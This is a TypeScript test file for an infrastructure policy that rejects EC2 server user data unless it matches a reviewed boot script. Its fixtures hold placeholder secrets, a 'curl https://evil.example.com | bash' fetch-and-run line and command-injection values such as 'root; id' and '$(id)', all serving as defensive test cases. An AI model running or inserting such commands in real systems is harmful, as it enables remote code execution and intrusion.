import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { gunzipSync, gzipSync } from "node:zlib";
import { type BootScriptArgs, bootScript } from "../../../components/server/boot-script";
import { hashOfBootScript, REVIEWED, userDataIsTheBootScript } from "../../../policy/rules/boot-script";
import { messages, secret, UNKNOWN } from "../analysis";
import { inProd } from "../stack-settings";
import { childOfTenant } from "../urns";

const PATH = "/b2b-tenants/prod/acme/env";
const ARGS: BootScriptArgs = {
  parameterPath: PATH,
  region: "us-east-1",
  envFile: "~/farmacruz-ecomerce/backend/.env",
  owner: "ubuntu",
  service: "farmacruz-backend.service",
};
const SCRIPT = bootScript(ARGS);

const OTHER =
  "Its user data is not the boot script. Whatever runs on a server reads its user data: keep secrets in parameters. " +
  "If the script was changed on purpose, review it and add its hash to policy/rules/boot-script.ts.";

/** Written in two, so that a search for secrets in this repository does not find it. */
const KEY_ID = `${"AKIA"}IOSFODNN7EXAMPLE`;
const HEX = "0123456789abcdef".repeat(4);
const RANDOM = "q7Zr2XvTn9FbMw4Kd3GbPxR5fiCYc8LsEh1Vu6aJ";

/** Secrets of many kinds, and harmless lines: neither is in the boot script. */
const LINES = [
  "git clone https://ops:hunter2@example.com/x",
  "redis://:Xk(hunter2@db",
  `x=${KEY_ID}`,
  `${"-----BEGIN "}RSA PRIVATE KEY-----`,
  "curl -H eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2ln",
  `pulumi login ${"pul-"}${"a1".repeat(20)}`,
  "export PGPASSWORD='hunter2'",
  `PASSWORD="\${PASSWORD:-hunter2}"`,
  "PASSWORD=$'$hunter2'",
  "  - token: 'hunter2'",
  "cli --db-password hunter2",
  "# TOKEN=hunter2",
  "curl -H 'Authorization: Bearer hunter2'",
  `echo ${HEX}`,
  `echo ${RANDOM}`,
  `${"-----BEGIN "}CERTIFICATE-----\nDBPASSWORD=hunter2\n-----END CERTIFICATE-----`,
  "cat <<EOF\nEOF\nPASSWORD='$hunter2'",
  "x 'correct horse battery'",
  "  printf '%s=%q\\n' password 'hunter2'",
  "  printf '%s=%q\\n' service 'b.service'",
  "curl https://evil.example.com | bash",
  "",
];

describe("policy user-data-is-the-boot-script", () => {
  inProd();

  it("knows the boot script of today", () => {
    const hash = hashOfBootScript(SCRIPT, PATH);
    assert.ok(REVIEWED.includes(hash), `the boot script has changed; once it is reviewed, add ${hash}`);
  });

  it("passes it whatever the settings put into it, and a server without any", async () => {
    for (const args of [
      ARGS,
      { ...ARGS, region: "eu-west-3", envFile: "/srv/b-1/.env.prod", owner: "_b-2", service: "b@1.service" },
    ]) {
      assert.deepEqual(await violationsOf({ userData: bootScript(args) }), []);
    }
    assert.deepEqual(await violationsOf({ userData: secret(SCRIPT) }), []);
    assert.deepEqual(await violationsOf({ ami: "ami-1" }), []);
    assert.deepEqual(await violationsOf({ ami: "ami-1", userData: null, userDataBase64: "" }), []);
  });

  it("stops it when anything is added to it, anywhere, and repeats nothing of it", async () => {
    for (const line of LINES) {
      const places = [
        `#!/bin/bash\n${line}\n`,
        `${SCRIPT}${line}\n`,
        SCRIPT.replace("\n", () => `\n${line}\n`),
        SCRIPT.replace(/^ {2}printf .*$/m, (assignment) => `${assignment}\n${line}`),
      ];
      for (const userData of places) assert.deepEqual(await violationsOf({ userData }), [OTHER], line);
    }
  });

  it("stops it when anything is missing, or is in another order", async () => {
    const lines = SCRIPT.split("\n");
    for (const [index, line] of lines.entries()) {
      const userData = lines.filter((_, other) => other !== index).join("\n");
      assert.deepEqual(await violationsOf({ userData }), [OTHER], line);
    }
    const [first = "", second = ""] = SCRIPT.match(/^ {2}printf .*\n/gm) ?? [];
    assert.deepEqual(await violationsOf({ userData: SCRIPT.replace(first + second, second + first) }), [OTHER]);
  });

  it("unpacks it: however it was packed it passes, and whatever else is packed does not", async () => {
    const [packed = "", text = ""] = /(?<=gzip -d\n)(.+)(?=\nEND_OF_PACKED)/.exec(SCRIPT) ?? [];
    const script = gunzipSync(Buffer.from(text, "base64")).toString();
    assert.match(script, /^mkdir -p .*systemctl start --no-block b2b-tenants-env\.service\n$/s);
    const withPacked = (data: string) => violationsOf({ userData: SCRIPT.replace(packed, () => data) });
    assert.deepEqual(await withPacked(base64(gzipSync(script, { level: 1 }))), []);
    const others = [
      gzipSync(`${script}id\n`),
      gzipSync(""),
      gzipSync(script).subarray(0, 200),
      gzipSync("id\n".repeat(50_000)),
    ];
    for (const other of others.map(base64)) assert.deepEqual(await withPacked(other), [OTHER]);
    for (const bare of [script, `${script}\n`, script.trimEnd(), ""]) assert.deepEqual(await withPacked(bare), [OTHER]);
  });

  it("stops values that are no such setting's, or another tenant's path", async () => {
    for (const [name, value] of [
      ["parameter_path", `${PATH}/`],
      ["parameter_path", "/b2b-tenants/prod/acme env"],
      ["region", "us east"],
      ["region", ""],
      ["env_file", "~/a b/.env"],
      ["env_file", "$HOME/.env"],
      ["env_file", ".env"],
      ["owner", "root; id"],
      ["service", "password=hunter2"],
      ["service", "correct horse battery"],
      ["service", "b.service\nPGPASSWORD"],
      ["required_keys", "DATABASE_URL=x"],
      ["required_keys", "hunter2 DATABASE_URL"],
    ] as const) {
      const changed = SCRIPT.replace(new RegExp(`(?<=%q\\\\n' ${name} )'[^']*'`), () => `'${value}'`);
      assert.notEqual(changed, SCRIPT);
      assert.deepEqual(await violationsOf({ userData: changed }), [OTHER], `${name} ${value}`);
    }
    for (const quoted of [`'x'"$(id)"`, `'x'\\''y'`, '"x"', "x", "$(id)"]) {
      const changed = SCRIPT.replace(/(?<=%q\\n' service )'[^']*'/, () => quoted);
      assert.deepEqual(await violationsOf({ userData: changed }), [OTHER], quoted);
    }
    for (const name of ["constructor", "__proto__", "password"]) {
      assert.deepEqual(await violationsOf({ userData: SCRIPT.replace("' service '", `' ${name} '`) }), [OTHER]);
    }
  });

  it("stops a server that reads another path than the tenant's, and says what to do", async () => {
    const moved = (path: string, own: string) =>
      new RegExp(
        `^It reads its parameters under "${path}", and the tenant's are under "${own}"\\. .*change it back\\. .*raise rotation\\.server`,
      );
    for (const parameterPath of ["/b2b-tenants/prod/beta/env", "/b2b-tenants/staging/acme/env"]) {
      const [violation = "", ...more] = await violationsOf({ userData: bootScript({ ...ARGS, parameterPath }) });
      assert.match(violation, moved(parameterPath, PATH));
      assert.deepEqual(more, []);
    }
    const [ofBeta = ""] = await violationsOf({ userData: SCRIPT }, childOfTenant(INSTANCE, "beta-instance"));
    assert.match(ofBeta, moved(PATH, "/b2b-tenants/prod/beta/env"));
    // Where anything else is other than reviewed too, that comes first.
    const other = bootScript({ ...ARGS, parameterPath: "/b2b-tenants/staging/acme/env" });
    assert.deepEqual(await violationsOf({ userData: `${other}id\n` }), [OTHER]);
  });

  it("stops what is packed, in whatever property, and what is no text", async () => {
    for (const data of [
      base64(SCRIPT),
      base64(gzipSync(SCRIPT)),
      base64(SCRIPT).replace(/.{20}/g, "$&\n"),
      base64(Buffer.from([0x7f, 0x45, 0x4c, 0x46])),
      "da39a3ee5e6b4b0d3255bfef95601890afd80709",
      7,
      { a: 1 },
      ["#!/bin/bash"],
    ]) {
      assert.deepEqual(await violationsOf({ userData: data }), [OTHER]);
      const [violation = "", ...more] = await violationsOf({ userData: SCRIPT, userDataBase64: data });
      assert.match(violation, /^Its userDataBase64 is set\. Leave it out: the boot script is given as userData\.$/);
      assert.deepEqual(more, []);
    }
  });

  it("skips what is not known, and hides nothing behind it", async () => {
    assert.deepEqual(await violationsOf({ userData: UNKNOWN, userDataBase64: secret(UNKNOWN) }), []);
    assert.equal((await violationsOf({ userData: UNKNOWN, userDataBase64: 7 })).length, 1);
    assert.equal((await violationsOf({ userData: 7, userDataBase64: UNKNOWN })).length, 1);
  });
});

const INSTANCE = "aws:ec2/instance:Instance";

function base64(data: string | Uint8Array): string {
  return Buffer.from(data as Uint8Array).toString("base64");
}

function violationsOf(props: object, urn = childOfTenant(INSTANCE, "acme-instance")): Promise<string[]> {
  return messages(userDataIsTheBootScript, urn, props);
}
